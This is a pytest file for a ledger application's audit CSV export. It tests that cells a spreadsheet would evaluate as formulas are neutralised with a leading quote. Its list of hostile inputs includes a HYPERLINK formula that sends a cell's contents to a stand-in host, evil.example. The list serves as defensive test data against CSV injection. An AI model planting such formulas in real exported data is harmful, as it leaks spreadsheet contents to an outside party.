"""The audit CSV: what the JSON says, and nothing a spreadsheet would run
(issue 13, finding 4)."""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime

import pytest

from ledgerflow.audit.export import neutralise, trail_csv
from ledgerflow.audit.trail import AUDIT_FIELDS, AuditEntry, AuditTrail

T0, T1 = datetime(2026, 11, 1, tzinfo=UTC), datetime(2026, 11, 30, tzinfo=UTC)
HOSTILE = [
    '=HYPERLINK("http://evil.example/?d="&A1,"ok")',
    "@SUM(1+1)",
    "+1+1",
    "-2+3",
    "\t=1",
    "\r=1",
    "   =1+1",
]


def entry(description: str, metadata: dict[str, object] | None = None) -> AuditEntry:
    return AuditEntry(
        kind="posting", recorded_at=T0, occurred_at=T0, account_id="anna", type="Debited",
        version=2, transfer_id="t1", workflow_id="transfer-t1", counterparty="bank",
        amount=-120, currency="EUR", balance_after=380, region="us", initiated_by="anna",
        description=description, metadata=metadata or {}, event_id="e", prev_hash="p",
        hash="h", reason_type=None, reason=None,
    )  # fmt: skip


@pytest.mark.parametrize("text", HOSTILE)
def test_a_cell_a_spreadsheet_would_evaluate_is_written_as_text(text: str) -> None:
    assert neutralise(text) == "'" + text
    trail = AuditTrail("anna", "EUR", T0, T1, 500, 380, [entry(text, {"note": text})])
    rows = list(csv.DictReader(io.StringIO(trail_csv(trail), newline="")))
    [posting] = [r for r in rows if r["kind"] == "posting"]
    assert posting["description"] == "'" + text
    assert not posting["metadata"].lstrip().startswith(("=", "+", "-", "@"))


def test_numbers_and_plain_text_are_written_as_they_are() -> None:
    trail = AuditTrail("anna", "EUR", T0, T1, 500, 380, [entry("rent; 3=3")])
    rows = list(csv.DictReader(io.StringIO(trail_csv(trail), newline="")))
    assert list(rows[0]) == AUDIT_FIELDS
    assert [r["kind"] for r in rows] == ["opening", "posting", "closing"]
    assert (rows[0]["balance_after"], rows[2]["balance_after"]) == ("500", "380")
    assert (rows[1]["amount"], rows[1]["description"]) == ("-120", "rent; 3=3")
    assert rows[0]["recorded_at"] == T0.isoformat() and rows[2]["recorded_at"] == T1.isoformat()
